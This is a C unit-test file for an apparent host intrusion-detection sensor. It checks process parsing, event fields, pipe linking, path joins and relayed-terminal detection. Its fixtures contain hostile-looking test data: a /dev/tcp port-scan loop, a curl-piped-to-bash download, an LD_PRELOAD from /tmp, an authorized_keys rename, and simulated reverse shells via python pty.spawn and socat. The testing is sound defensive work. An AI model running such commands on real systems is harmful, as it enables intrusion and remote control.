/* Unprivileged unit checks of the sensor's user-space parts that take hostile
 * input or hold bounded state: /proc/<pid>/stat parsing (comm may contain
 * anything, the file may be cut short), the process table's eviction and
 * (pid, start time) identity, the field mapping of a decoded event, and the
 * process bookkeeping both capture modes share; and, through a capture
 * written here and replayed, the pipe join (writer before or after its
 * reader), the path operations' join of relative paths with their
 * directory and the final check against the watch list, and the relayed
 * terminals (a program on a pty made by a process that holds a socket).
 * Prints one line per check and `sensor-unit: P passed, F failed`. */
#include "sensor/sensor_int.h"

#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "sensor/sensor.h"

static int pass, fail;
#define CHECK(name, cond)                    \
    do {                                     \
        if (cond) {                          \
            pass++;                          \
            printf("ok   unit: %s\n", name); \
        } else {                             \
            fail++;                          \
            printf("FAIL unit: %s\n", name); \
        }                                    \
    } while (0)

static void test_stat(void)
{
    struct procstat st;
    const char *good = "1234 (bash) S 1000 1234 1234 34816 1234 4194560 1 2 3 4 5 6 7 8 20 0 1 0 98765 1 2";
    CHECK("stat: plain line", proc_parse_stat(good, strlen(good), &st) == 0 && st.ppid == 1000 && st.sid == 1234 &&
                                  st.tty_nr == 34816 && st.start_ticks == 98765 && strcmp(st.comm, "bash") == 0);
    const char *evil = "77 (a) S 1 2 3 4 (x) R) S 42 77 77 0 -1 4194560 1 2 3 4 5 6 7 8 20 0 1 0 555 1 2";
    CHECK("stat: comm with ') S 1 2 3 4 (' parsed from the last ')'", proc_parse_stat(evil, strlen(evil), &st) == 0 &&
                                                                          st.ppid == 42 && st.start_ticks == 555 &&
                                                                          strlen(st.comm) < sizeof(st.comm));
    CHECK("stat: cut short is an error", proc_parse_stat(good, 40, &st) < 0);
    CHECK("stat: no parentheses is an error", proc_parse_stat("1 bash S 1", 10, &st) < 0);
    CHECK("stat: empty is an error", proc_parse_stat("", 0, &st) < 0);
    const char *huge = "1 (x) S 99999999999999999999999999 1 1 0 1 1 1 1 1 1 1 1 1 1 1 1 1 1 5 1";
    CHECK("stat: overlong number rejected", proc_parse_stat(huge, strlen(huge), &st) < 0);
}

static void test_proctab(void)
{
    struct proctab *pt = proctab_new(16);
    uint64_t tick = proc_ticks_to_ns(1);
    CHECK("proctab: created", pt != NULL);
    if (!pt)
        return;
    struct proc_info *a = proctab_put(pt, 100, 5 * tick);
    proctab_set(&a->image, "/usr/bin/bash", 13);
    struct proc_info *b = proctab_put(pt, 100, 9 * tick); /* pid reused later */
    proctab_set(&b->image, "/usr/bin/curl", 13);
    CHECK("proctab: pid reuse keeps both processes apart",
          proctab_get(pt, 100, 5 * tick) && strcmp(proctab_get(pt, 100, 5 * tick)->image, "/usr/bin/bash") == 0 &&
              strcmp(proctab_get(pt, 100, 9 * tick)->image, "/usr/bin/curl") == 0);
    CHECK("proctab: /proc tick resolution matches exact start",
          proctab_get(pt, 100, 5 * tick + tick / 2) == proctab_get(pt, 100, 5 * tick));
    CHECK("proctab: start 0 = newest live", proctab_get(pt, 100, 0) == proctab_get(pt, 100, 9 * tick));
    proctab_exited(pt, proctab_get(pt, 100, 9 * tick));
    CHECK("proctab: start 0 skips exited", proctab_get(pt, 100, 0) == proctab_get(pt, 100, 5 * tick));
    for (uint32_t i = 0; i < 100; i++)
        proctab_put(pt, 1000 + i, (uint64_t)(i + 1) * tick);
    CHECK("proctab: bounded", proctab_count(pt) <= 16 && proctab_evictions(pt) > 0);
    CHECK("proctab: newest kept", proctab_get(pt, 1099, 100 * tick) != NULL);
    char big[SENSOR_CMDLINE_KEEP * 2];
    memset(big, 'x', sizeof(big));
    struct proc_info *c = proctab_put(pt, 5, tick);
    proctab_set(&c->cmdline, big, sizeof(big));
    CHECK("proctab: command line capped", strlen(c->cmdline) == SENSOR_CMDLINE_KEEP);
    proctab_free(pt);
    proctab_free(NULL);
}

static int collect(void *ctx, const char *name, const char *value)
{
    char *out = ctx;
    size_t l = strlen(out);
    snprintf(out + l, 4096 - l, "%s=%s\n", name, value);
    return 0;
}

static void test_fields(void)
{
    struct sensor s;
    memset(&s, 0, sizeof(s));
    strcpy(s.hostname, "h1");
    s.boot_tag = 0xabcdef01;
    struct sensor_event ev;
    memset(&ev, 0, sizeof(ev));
    ev.kind = SENSOR_CLOSE_STATS;
    ev.tgid = ev.pid = 42;
    ev.start_time_ns = 0x0102030405060708ull;
    ev.image = "/usr/bin/curl";
    ev.protocol = 6;
    ev.initiated = true;
    ev.src.family = ev.dst.family = 10;
    ev.src.addr[15] = 1;                      /* ::1 */
    ev.dst.addr[10] = ev.dst.addr[11] = 0xff; /* ::ffff:127.0.0.1 */
    ev.dst.addr[12] = 127;
    ev.dst.addr[15] = 1;
    ev.src.port = 40000;
    ev.dst.port = 443;
    ev.bytes_sent = 1000;
    ev.bytes_received = 20;
    ev.watch_index = -1;
    char out[4096] = "";
    int n = sensor_event_fields(&s, &ev, collect, out);
    CHECK("fields: network close as EventID 3", n > 0 && strstr(out, "EventID=3\n") &&
                                                    strstr(out, "Channel=stoat-sensor\n") &&
                                                    strstr(out, "Image=/usr/bin/curl\n"));
    CHECK("fields: v6 source, v4-mapped destination shown as v4",
          strstr(out, "SourceIp=::1\n") && strstr(out, "SourceIsIpv6=true\n") &&
              strstr(out, "DestinationIp=127.0.0.1\n") && strstr(out, "DestinationIsIpv6=false\n"));
    CHECK("fields: bytes and ports", strstr(out, "BytesSent=1000\n") && strstr(out, "BytesReceived=20\n") &&
                                         strstr(out, "DestinationPort=443\n") && strstr(out, "Initiated=true\n"));
    CHECK("fields: ProcessGuid from boot id, start time, pid",
          strstr(out, "ProcessGuid={abcdef01-0102-0304-0506-07080000002a}\n") != NULL);
    /* a fork runs no new command line: carrying the parent's (twice: as its
     * own and as ParentCommandLine) made a keyword rule fire once per
     * subshell of a loop (1,025 alerts for one port scan) */
    memset(&ev, 0, sizeof(ev));
    ev.kind = SENSOR_FORK;
    ev.tgid = ev.pid = 43;
    ev.ppid = 42;
    ev.image = ev.parent_image = "/usr/bin/bash";
    ev.cmdline = ev.parent_cmdline = "bash -c for p in $(seq 1 1024); do (echo >/dev/tcp/10.0.0.1/$p); done";
    out[0] = 0;
    n = sensor_event_fields(&s, &ev, collect, out);
    CHECK("fields: a fork as EventID 1001 with its parent, and no command line",
          n > 0 && strstr(out, "EventID=1001\n") && strstr(out, "ParentProcessId=42\n") &&
              strstr(out, "ParentImage=/usr/bin/bash\n") && !strstr(out, "CommandLine") && !strstr(out, "/dev/tcp"));
    /* a pipeline link (and the reader's exec) named both command lines, each
     * already on its own exec event: a rule on either matched one pipeline twice */
    memset(&ev, 0, sizeof(ev));
    ev.kind = SENSOR_PIPELINE;
    ev.tgid = ev.pid = 44;
    ev.ppid = 42;
    ev.image = "/usr/bin/bash";
    ev.parent_image = "/usr/bin/bash";
    ev.cmdline = "bash -s stoat-reader-words";
    ev.parent_cmdline = "bash -c curl -s http://x/i.sh | bash -s stoat-reader-words";
    ev.stdin_tgid = 45;
    ev.stdin_start_ns = 7;
    ev.stdin_image = "/usr/bin/curl";
    out[0] = 0;
    n = sensor_event_fields(&s, &ev, collect, out);
    CHECK("fields: a pipeline event (1004) is the link alone: no command line of the reader, its parent or "
          "the writer",
          n > 0 && strstr(out, "EventID=1004\n") && strstr(out, "StdinFromImage=/usr/bin/curl\n") &&
              strstr(out, "StdinFromProcessId=45\n") && strstr(out, "Image=/usr/bin/bash\n") &&
              !strstr(out, "CommandLine") && !strstr(out, "stoat-reader-words"));
}

struct seen {
    int n;
    char image[64], parent_image[64];
    bool parent_known;
    uint64_t start;
    uint32_t uid;
};

static int seen_cb(void *ctx, const struct sensor_event *ev)
{
    struct seen *w = ctx;
    w->n++;
    snprintf(w->image, sizeof(w->image), "%s", ev->image ? ev->image : "");
    snprintf(w->parent_image, sizeof(w->parent_image), "%s", ev->parent_image ? ev->parent_image : "");
    w->parent_known = ev->parent_image != NULL;
    w->start = ev->start_time_ns;
    w->uid = ev->uid;
    return 0;
}

/* The process bookkeeping both modes share, on fallback-style events (known
 * from /proc, so no /proc is read here): an exec whose table insert evicts
 * the parent must not hand out the parent's freed strings (the fallback did,
 * before the two modes shared this code; ASan sees it); a fork starts as a
 * copy of its parent; an exit that names only the pid takes the rest from
 * the table. */
static void test_deliver_proc(void)
{
    struct sensor s;
    struct seen w;
    struct sensor_event ev;
    uint64_t tick = proc_ticks_to_ns(1);
    memset(&s, 0, sizeof(s));
    memset(&w, 0, sizeof(w));
    s.pt = proctab_new(16);
    s.cb = seen_cb;
    s.cbctx = &w;
    if (!s.pt) {
        CHECK("deliver_proc: table created", false);
        return;
    }
    struct proc_info *par = proctab_put(s.pt, 500, 5 * tick); /* the oldest live entry */
    proctab_set(&par->image, "/usr/bin/bash", 13);
    for (uint32_t i = 0; i < 15; i++)
        proctab_put(s.pt, 1000 + i, (uint64_t)(i + 10) * tick);
    sensor_event_init(&ev, SENSOR_EXEC, 1, 600, 600);
    ev.flags = SENSOR_EF_FROM_PROC;
    ev.ppid = 500;
    ev.start_time_ns = 40 * tick;
    ev.image = "/usr/bin/id";
    ev.cmdline = "id";
    sensor_deliver_proc(&s, &ev);
    CHECK("deliver_proc: an exec that evicts its parent hands out no parent strings",
          w.n == 1 && !w.parent_known && strcmp(w.image, "/usr/bin/id") == 0 && proctab_get(s.pt, 500, 0) == NULL);

    struct proc_info *q = proctab_put(s.pt, 700, 50 * tick);
    proctab_set(&q->image, "/usr/sbin/sshd", 14);
    sensor_event_init(&ev, SENSOR_FORK, 2, 701, 701);
    ev.flags = SENSOR_EF_FROM_PROC;
    ev.ppid = 700;
    ev.start_time_ns = 60 * tick;
    sensor_deliver_proc(&s, &ev);
    struct proc_info *child = proctab_get(s.pt, 701, 60 * tick);
    CHECK("deliver_proc: a fork starts as a copy of its parent",
          w.n == 2 && strcmp(w.image, "/usr/sbin/sshd") == 0 && strcmp(w.parent_image, "/usr/sbin/sshd") == 0 &&
              child && child->image && strcmp(child->image, "/usr/sbin/sshd") == 0 && child->pstart_ns == 50 * tick);

    if (child)
        child->uid = 1001;
    sensor_event_init(&ev, SENSOR_EXIT, 3, 701, 701);
    sensor_deliver_proc(&s, &ev);
    CHECK("deliver_proc: an exit by pid only takes start, uid and image from the table, then is marked exited",
          w.n == 3 && w.start == 60 * tick && w.uid == 1001 && strcmp(w.image, "/usr/sbin/sshd") == 0 &&
              proctab_get(s.pt, 701, 0) == NULL && proctab_get(s.pt, 701, 60 * tick) != NULL);
    CHECK("deliver_proc: counted by kind", s.st.events == 3 && s.st.by_kind[SENSOR_EXEC] == 1 &&
                                               s.st.by_kind[SENSOR_FORK] == 1 && s.st.by_kind[SENSOR_EXIT] == 1);
    proctab_free(s.pt);
}

/* ---- a capture written by hand, replayed ---- */

static void cap_frame(FILE *f, uint32_t tag, const void *p, uint32_t len)
{
    static const char zero[8];
    fwrite(&len, 4, 1, f);
    fwrite(&tag, 4, 1, f);
    fwrite(p, 1, len, f);
    fwrite(zero, 1, cap_pad8(len) - len, f);
}

static uint32_t cap_ppid = 1;  /* the parent of the next exec records */
static uint32_t cap_flags = 0; /* SENSOR_RF_* of the next exec records */

/* an exec record of tgid running image with argv "image", pipes on fd 0 / fd 1 */
static void cap_exec(FILE *f, uint32_t tgid, uint64_t ts, const char *image, uint64_t in, uint64_t out, const char *env,
                     size_t envlen)
{
    char buf[sizeof(struct sensor_rec_exec) + 512];
    struct sensor_rec_exec *e = (struct sensor_rec_exec *)buf;
    size_t il = strlen(image);
    memset(buf, 0, sizeof(buf));
    e->h.type = SENSOR_REC_EXEC;
    e->h.ts_ns = ts;
    e->h.pid = e->h.tgid = tgid;
    e->h.start_ns = 1000 + tgid;
    e->h.flags = cap_flags;
    e->ppid = cap_ppid;
    e->pstart_ns = 1000 + cap_ppid;
    e->nparts = 1;
    e->exe_len = (uint16_t)il;
    e->argv_len = (uint16_t)(il + 1);
    e->env_len = (uint16_t)envlen;
    e->stdin_pipe = in;
    e->stdout_pipe = out;
    e->pipe_dev = 13;
    memcpy(buf + sizeof(*e), image, il);
    memcpy(buf + sizeof(*e) + il, image, il + 1);
    if (envlen)
        memcpy(buf + sizeof(*e) + il + il + 1, env, envlen);
    e->h.size = (uint32_t)(sizeof(*e) + il + il + 1 + envlen);
    cap_frame(f, CAP_RECORD, buf, e->h.size);
}

static void cap_fileop(FILE *f, uint32_t tgid, uint32_t op, const char *path, const char *path2, const char *base,
                       const char *base2)
{
    char buf[sizeof(struct sensor_rec_fileop) + 1024];
    struct sensor_rec_fileop *r = (struct sensor_rec_fileop *)buf;
    const char *parts[4] = {path, path2, base, base2};
    size_t off = sizeof(*r);
    memset(buf, 0, sizeof(buf));
    r->h.type = SENSOR_REC_FILEOP;
    r->h.ts_ns = 5000;
    r->h.pid = r->h.tgid = tgid;
    r->h.start_ns = 1000 + tgid;
    r->op = op;
    uint16_t *lens[4] = {&r->path_len, &r->path2_len, &r->base_len, &r->base2_len};
    for (int i = 0; i < 4; i++) {
        size_t l = strlen(parts[i]);
        memcpy(buf + off, parts[i], l);
        *lens[i] = (uint16_t)l;
        off += l;
    }
    r->h.size = (uint32_t)off;
    cap_frame(f, CAP_RECORD, buf, r->h.size);
}

/* a connect, accept or close record of tgid's socket sk (peer port 4444) */
static void cap_net(FILE *f, uint32_t type, uint32_t tgid, uint64_t sk)
{
    struct sensor_rec_net r;
    memset(&r, 0, sizeof(r));
    r.h.type = type;
    r.h.size = sizeof(r);
    r.h.ts_ns = 7000;
    r.h.pid = r.h.tgid = tgid;
    r.h.start_ns = 1000 + tgid;
    r.src.family = r.dst.family = 2;
    r.src.port = 40000;
    r.dst.port = 4444;
    r.src.addr[0] = r.dst.addr[0] = 127;
    r.src.addr[3] = r.dst.addr[3] = 1;
    r.sk = sk;
    r.fd = -1;
    r.initiated = type == SENSOR_REC_CONNECT;
    r.proto = 6;
    cap_frame(f, CAP_RECORD, &r, sizeof(r));
}

static void cap_fork(FILE *f, uint32_t tgid, uint32_t ppid)
{
    struct sensor_rec_fork r;
    memset(&r, 0, sizeof(r));
    r.h.type = SENSOR_REC_FORK;
    r.h.size = sizeof(r);
    r.h.ts_ns = 7000;
    r.h.pid = r.h.tgid = tgid;
    r.h.start_ns = 1000 + tgid;
    r.ppid = ppid;
    r.pstart_ns = 1000 + ppid;
    cap_frame(f, CAP_RECORD, &r, sizeof(r));
}

struct got {
    int n;
    struct {
        enum sensor_kind kind;
        uint32_t tgid, from, relay;
        uint8_t pty_fds;
        char from_image[64], path[128], path2[128], env[128];
    } ev[24];
};

static int got_cb(void *ctx, const struct sensor_event *ev)
{
    struct got *g = ctx;
    if (g->n >= 24)
        return 0;
    g->ev[g->n].kind = ev->kind;
    g->ev[g->n].tgid = ev->tgid;
    g->ev[g->n].from = ev->stdin_tgid;
    g->ev[g->n].relay = ev->relay_tgid;
    g->ev[g->n].pty_fds = ev->pty_fds;
    snprintf(g->ev[g->n].from_image, 64, "%s", ev->stdin_image ? ev->stdin_image : "");
    snprintf(g->ev[g->n].path, 128, "%s", ev->path ? ev->path : "");
    snprintf(g->ev[g->n].path2, 128, "%s", ev->path2 ? ev->path2 : "");
    snprintf(g->ev[g->n].env, 128, "%.*s", (int)ev->env_len, ev->env ? ev->env : "");
    g->n++;
    return 0;
}

static void test_replayed_joins(void)
{
    char path[] = "/tmp/stoat-unit-cap.XXXXXX";
    int fd = mkstemp(path);
    FILE *f = fd >= 0 ? fdopen(fd, "wb") : NULL;
    struct sensor *s = NULL;
    struct got g;
    char err[256];
    if (!f) {
        CHECK("replay: capture written", false);
        return;
    }
    fwrite(CAP_MAGIC, 1, CAP_MAGIC_LEN, f);
    const char hdr[] = "\x01\0\0\0\x02\0\0\0host\0/etc/cron.d\0/home/al/.ssh/authorized_keys";
    cap_frame(f, CAP_HEADER, hdr, sizeof(hdr));
    int64_t zero = 0;
    cap_frame(f, CAP_POLL, &zero, 8);
    /* writer first: curl (stdout pipe 77), then bash reading it */
    cap_exec(f, 101, 100, "/usr/bin/curl", 0, 77, NULL, 0);
    cap_exec(f, 102, 200, "/usr/bin/bash", 77, 0, NULL, 0);
    /* reader first: nc reads pipe 88, then tar writes it */
    cap_exec(f, 103, 300, "/usr/bin/nc", 88, 0, NULL, 0);
    cap_exec(f, 104, 400, "/usr/bin/tar", 0, 88, "LD_PRELOAD=/tmp/x.so\0", 21);
    /* another pipe: no link */
    cap_exec(f, 105, 500, "/usr/bin/cat", 99, 0, NULL, 0);
    /* a command of the script bash reads from curl: it inherits the pipe, no new link */
    cap_ppid = 102;
    cap_exec(f, 106, 600, "/usr/bin/id", 77, 0, NULL, 0);
    cap_ppid = 1;
    /* path operations: relative rename with "..", a name that only looks watched, a delete */
    cap_fileop(f, 104, SENSOR_FOP_RENAME, "authorized_keys", "../key.pub", "/home/al/.ssh", "/home/al/.ssh");
    cap_fileop(f, 104, SENSOR_FOP_UNLINK, "/srv/x/cron.d/job", "", "", "");
    cap_fileop(f, 104, SENSOR_FOP_UNLINK, "./cron.d/../cron.d/job", "", "/etc", "");
    int64_t clock = 6000;
    cap_frame(f, CAP_CLOCK, &clock, 8);
    fclose(f);

    struct sensor_opts o = {.replay_path = path};
    memset(&g, 0, sizeof(g));
    if (sensor_open(&o, &s, err, sizeof(err)) != 0) {
        CHECK("replay: the capture opens", false);
        unlink(path);
        return;
    }
    while (sensor_poll(s, 0, got_cb, &g) >= 0)
        ;
    sensor_close(s);
    /* two passes: the second repeats the pipe inodes, and its reader-first
     * pipe must not be joined to the first pass's writer */
    struct sensor_opts o2 = {.replay_path = path, .replay_passes = 2};
    struct got g2;
    memset(&g2, 0, sizeof(g2));
    if (sensor_open(&o2, &s, err, sizeof(err)) == 0) {
        while (sensor_poll(s, 0, got_cb, &g2) >= 0)
            ;
        sensor_close(s);
    }
    CHECK("pipes: a second replay pass starts with no pipe known",
          g2.n == 18 && g2.ev[11].kind == SENSOR_EXEC && g2.ev[11].from == 0 && g2.ev[13].kind == SENSOR_PIPELINE &&
              g2.ev[13].from == g2.ev[12].tgid);
    unlink(path);
    /* events in order: exec 101, 102, 103, 104, pipeline (103), exec 105, exec 106, rename, delete */
    CHECK("replay: all events delivered", g.n == 9);
    CHECK("pipes: the writer known first: the reader's exec names it",
          g.ev[1].kind == SENSOR_EXEC && g.ev[1].tgid == 102 && g.ev[1].from == 101 &&
              strcmp(g.ev[1].from_image, "/usr/bin/curl") == 0);
    CHECK("pipes: the reader first: its exec names no writer", g.ev[2].tgid == 103 && g.ev[2].from == 0);
    CHECK("pipes: then the writer's exec brings a pipeline event for the reader",
          g.ev[3].tgid == 104 && g.ev[4].kind == SENSOR_PIPELINE && g.ev[4].tgid == 103 && g.ev[4].from == 104 &&
              strcmp(g.ev[4].from_image, "/usr/bin/tar") == 0);
    CHECK("pipes: a pipe nobody wrote links nothing", g.ev[5].tgid == 105 && g.ev[5].from == 0);
    CHECK("pipes: a child that inherits its parent's stdin pipe is no new reader",
          g.ev[6].tgid == 106 && g.ev[6].kind == SENSOR_EXEC && g.ev[6].from == 0);
    CHECK("env: the allow-listed environment decoded", strcmp(g.ev[3].env, "LD_PRELOAD=/tmp/x.so") == 0);
    CHECK("fileops: a relative rename joined with its directory and cleaned",
          g.ev[7].kind == SENSOR_FILE_CHANGE && strcmp(g.ev[7].path, "/home/al/.ssh/authorized_keys") == 0 &&
              strcmp(g.ev[7].path2, "/home/al/key.pub") == 0);
    CHECK("fileops: a name that only looks watched is dropped; ./x/../x joined",
          g.ev[8].kind == SENSOR_FILE_DELETE && strcmp(g.ev[8].path, "/etc/cron.d/job") == 0);
}

/* the relayed-terminal events of a replay, in order, as "prog<relay" */
static void pty_events(const struct got *g, char *out, size_t cap)
{
    size_t o = 0;
    out[0] = 0;
    for (int i = 0; i < g->n && o + 32 < cap; i++)
        if (g->ev[i].kind == SENSOR_PTY_STDIO)
            o += (size_t)snprintf(out + o, cap - o, "%s%u<%u/%u", o ? " " : "", g->ev[i].tgid, g->ev[i].relay,
                                  g->ev[i].pty_fds);
}

static void test_replayed_ptys(void)
{
    char path[] = "/tmp/stoat-unit-pty.XXXXXX";
    int fd = mkstemp(path);
    FILE *f = fd >= 0 ? fdopen(fd, "wb") : NULL;
    struct sensor *s = NULL;
    struct got g;
    char err[256], got[256];
    if (!f) {
        CHECK("ptys: capture written", false);
        return;
    }
    fwrite(CAP_MAGIC, 1, CAP_MAGIC_LEN, f);
    const char hdr[] = "\x01\0\0\0\0\0\0\0host";
    cap_frame(f, CAP_HEADER, hdr, sizeof(hdr));
    int64_t zero = 0;
    cap_frame(f, CAP_POLL, &zero, 8);
    const uint32_t pty = SENSOR_RF_PTY_FD0 * 7; /* fds 0, 1 and 2 on a new terminal */
    /* connects, then a shell on a terminal it made (pty.spawn); the shell execs again */
    cap_ppid = 1;
    cap_exec(f, 201, 100, "/usr/bin/python3", 0, 0, NULL, 0);
    cap_net(f, SENSOR_REC_CONNECT, 201, 0x51);
    cap_ppid = 201;
    cap_flags = pty;
    cap_exec(f, 202, 200, "/usr/bin/bash", 0, 0, NULL, 0);
    cap_exec(f, 202, 300, "/usr/bin/dash", 0, 0, NULL, 0);
    /* script with no socket: its shell on a new terminal is no relay */
    cap_ppid = 1;
    cap_flags = 0;
    cap_exec(f, 203, 400, "/usr/bin/script", 0, 0, NULL, 0);
    cap_ppid = 203;
    cap_flags = pty;
    cap_exec(f, 204, 500, "/usr/bin/bash", 0, 0, NULL, 0);
    /* the shell first, then its maker connects (socat exec:...,pty tcp:...) */
    cap_ppid = 1;
    cap_flags = 0;
    cap_exec(f, 205, 600, "/usr/bin/socat", 0, 0, NULL, 0);
    cap_ppid = 205;
    cap_flags = pty;
    cap_exec(f, 206, 700, "/usr/bin/bash", 0, 0, NULL, 0);
    cap_net(f, SENSOR_REC_CONNECT, 205, 0x52);
    /* a connection closed before the terminal: no relay */
    cap_ppid = 1;
    cap_flags = 0;
    cap_exec(f, 207, 800, "/usr/bin/python3", 0, 0, NULL, 0);
    cap_net(f, SENSOR_REC_CONNECT, 207, 0x53);
    cap_net(f, SENSOR_REC_CLOSE, 207, 0x53);
    cap_ppid = 207;
    cap_flags = pty;
    cap_exec(f, 208, 900, "/usr/bin/bash", 0, 0, NULL, 0);
    /* a fork of the connector makes the terminal: it holds the socket too */
    cap_ppid = 1;
    cap_flags = 0;
    cap_exec(f, 209, 1000, "/usr/bin/python3", 0, 0, NULL, 0);
    cap_net(f, SENSOR_REC_CONNECT, 209, 0x54);
    cap_fork(f, 210, 209);
    cap_ppid = 210;
    cap_flags = SENSOR_RF_PTY_FD0 * 3; /* fds 0 and 1 */
    cap_exec(f, 211, 1100, "/usr/bin/sh", 0, 0, NULL, 0);
    cap_ppid = 1;
    cap_flags = 0;
    int64_t clock = 6000;
    cap_frame(f, CAP_CLOCK, &clock, 8);
    fclose(f);

    struct sensor_opts o = {.replay_path = path};
    memset(&g, 0, sizeof(g));
    if (sensor_open(&o, &s, err, sizeof(err)) != 0) {
        CHECK("ptys: the capture opens", false);
        unlink(path);
        return;
    }
    while (sensor_poll(s, 0, got_cb, &g) >= 0)
        ;
    sensor_close(s);
    unlink(path);
    pty_events(&g, got, sizeof(got));
    printf("     ptys: relayed terminals: %s\n", got);
    /* 202 once (not again at its second exec), 206 at its maker's connect, 211 under the fork; not 204, 208 */
    CHECK("ptys: a shell on a terminal made by a process holding a socket, once per process, either order",
          strcmp(got, "202<201/7 206<205/7 211<210/3") == 0);
}

static void test_join(void)
{
    char out[64];
    CHECK("join: absolute path kept, dots removed",
          fileops_join("/x", 2, "/a/./b//c/../d", 14, out, sizeof(out)) > 0 && strcmp(out, "/a/b/d") == 0);
    CHECK("join: .. above / stays at /",
          fileops_join("/", 1, "../../etc", 9, out, sizeof(out)) > 0 && strcmp(out, "/etc") == 0);
    CHECK("join: a relative path without a directory is refused", fileops_join("", 0, "a", 1, out, sizeof(out)) < 0);
    CHECK("join: too long for the output is refused",
          fileops_join("/", 1, "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", 71, out,
                       sizeof(out)) < 0);
}

int main(void)
{
    test_stat();
    test_proctab();
    test_fields();
    test_deliver_proc();
    test_join();
    test_replayed_joins();
    test_replayed_ptys();
    printf("sensor-unit: %d passed, %d failed\n", pass, fail);
    return fail ? 1 : 0;
}
